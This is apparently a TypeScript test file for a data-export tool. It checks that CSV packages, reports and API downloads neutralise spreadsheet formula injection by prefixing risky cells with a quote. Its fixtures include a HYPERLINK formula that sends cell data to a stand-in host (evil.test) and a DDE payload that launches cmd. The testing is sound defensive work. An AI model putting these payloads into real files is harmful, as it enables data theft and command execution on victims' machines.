import { expect, it } from 'vitest';
import { streamReport } from '../../src/engine/reports/index.js';
import { getRequest, requestExport } from '../../src/engine/requests/index.js';
import { registerSubject } from '../../src/engine/subjects/index.js';
import { createExportType } from '../../src/engine/types/index.js';
import { runWorker } from '../../src/engine/worker/index.js';
import type { ExportRecord, Item } from '../../src/items/index.js';
import { serverFixture } from '../server/server-fixture.js';
import { testEngine } from '../support/engine.js';
import { describeEachStore } from '../support/stores.js';
import { readZipEntry } from './read-zip-entry.js';

/** A strict RFC 4180 parser: a bare quote, CR or LF outside a quoted field is an error. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (c === '\r' || c === '\n' || c === '"') throw new Error(`bad CSV at offset ${i}`);
    else field += c;
  }
  if (quoted || field !== '' || record.length > 0) throw new Error('the CSV ends inside a record');
  return records;
}

/** Rows as objects keyed by the header. */
function rowsOf(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries((header ?? []).map((name, i) => [name, row[i] ?? ''])));
}

async function collect(stream: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of stream) text += chunk;
  return text;
}

const hyperlink = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
const dde = `@SUM(1+1)*cmd|' /C calc'!A0`;

/** What the hostile item exports: formulas in text, a column name that is one, and real negative numbers. */
const hostileRecords: ExportRecord[] = [
  {
    title: hyperlink,
    '=col': 'named like a formula',
    amount: -42,
    ratio: -0.5,
    text_number: '-17',
    note: dde,
    plus: '+1+1',
    tab: '\tstarts with a tab',
    cr: '\r=1',
    plain: 'a-b=c @ home',
    nested: { formula: '=1+1' },
  },
  { title: 'plain', amount: 3, ratio: null },
];

const hostileItem: Item = {
  component: 'notes',
  name: 'entries',
  group: 'Test',
  title: 'Notes',
  help: '',
  sortOrder: 0,
  modes: {},
  export: {
    async *records() {
      yield* hostileRecords;
    },
  },
};

const subject = {
  id: 'mallory',
  username: '@mallory',
  email: '-m@evil.test',
  fullName: '=1+2',
};

describeEachStore('CSV formula injection', ({ store }) => {
  it('prefixes formula-like text in the package CSV and the reports, keeps data.json and JSON lines exact', async () => {
    const engine = testEngine(store(), [hostileItem]);
    await registerSubject(engine, 'cli', subject);
    await createExportType(engine, 'cli', {
      idnumber: 'notes',
      name: '+Notes',
      items: ['notes/entries'],
    });
    const queued = await requestExport(engine, 'cli', {
      subjectId: 'mallory',
      type: 'notes',
      origin: 'admin',
    });
    await runWorker(engine, { once: true, jobs: 'none' });
    const done = await getRequest(engine, queued.id);
    expect(done.status).toBe('succeeded');
    const path = done.package?.path ?? '';

    const csv = (await readZipEntry(path, 'csv/notes-entries.csv')) ?? '';
    const [header] = parseCsv(csv);
    expect(header).toEqual([
      'title',
      "'=col",
      'amount',
      'ratio',
      'text_number',
      'note',
      'plus',
      'tab',
      'cr',
      'plain',
      'nested',
    ]);
    const rows = rowsOf(csv);
    expect(rows[0]).toEqual({
      title: `'${hyperlink}`,
      "'=col": 'named like a formula',
      amount: '-42',
      ratio: '-0.5',
      text_number: "'-17",
      note: `'${dde}`,
      plus: "'+1+1",
      tab: "'\tstarts with a tab",
      cr: "'\r=1",
      plain: 'a-b=c @ home',
      nested: '{"formula":"=1+1"}',
    });
    expect(rows[1]).toMatchObject({ title: 'plain', amount: '3', ratio: '' });
    // The negative numbers are bare in the file, so a spreadsheet reads them as numbers.
    expect(csv.split('\r\n')[1]).toContain(',-42,-0.5,');
    // Apart from numbers, no cell starts a formula.
    for (const row of parseCsv(csv)) {
      for (const cell of row) if (!/^-\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const data = JSON.parse((await readZipEntry(path, 'data.json')) ?? '{}') as Record<string, unknown>;
    expect(data['notes/entries']).toEqual(hostileRecords);

    const manifest = JSON.parse((await readZipEntry(path, 'manifest.json')) ?? '{}') as {
      subject: unknown;
      exportType: { name: string };
      csvFormulas: { prefix: string; startingWith: string[]; note: string };
    };
    expect(manifest.subject).toMatchObject(subject);
    expect(manifest.exportType.name).toBe('+Notes');
    expect(manifest.csvFormulas).toMatchObject({
      prefix: "'",
      startingWith: ['=', '+', '-', '@', '\t', '\r'],
    });
    expect(manifest.csvFormulas.note).toContain('data.json holds every value exactly');
    const html = (await readZipEntry(path, 'index.html')) ?? '';
    expect(html).toContain('a single quote (&#39;) put before it');

    // The exports report, as CSV (what `lethe reports exports --format csv` and the API write) and JSON lines.
    const report = rowsOf(await collect(streamReport(engine, 'exports', {}, 'csv')));
    expect(report).toHaveLength(1);
    expect(report[0]).toMatchObject({
      request_id: String(queued.id),
      subject_id: 'mallory',
      username: "'@mallory",
      email: "'-m@evil.test",
      full_name: "'=1+2",
      type_name: "'+Notes",
    });
    const lines = (await collect(streamReport(engine, 'exports', {}, 'jsonl'))).trim().split('\n');
    expect(JSON.parse(lines[0] ?? '{}')).toMatchObject({
      username: '@mallory',
      email: '-m@evil.test',
      fullName: '=1+2',
      typeName: '+Notes',
    });
  });

  it('the API’s CSV download of a report is prefixed too', async () => {
    const fx = await serverFixture(store());
    await registerSubject(fx.engine, 'cli', subject);
    await requestExport(fx.engine, 'cli', { subjectId: 'mallory', type: 'mine', origin: 'admin' });
    const response = await fx.dpo.request({ url: '/api/v1/reports/exports', query: { format: 'csv' } });
    expect(response.statusCode).toBe(200);
    const rows = rowsOf(response.body);
    expect(rows.find((r) => r['subject_id'] === 'mallory')).toMatchObject({
      username: "'@mallory",
      email: "'-m@evil.test",
      full_name: "'=1+2",
    });
    await fx.close();
  });
});
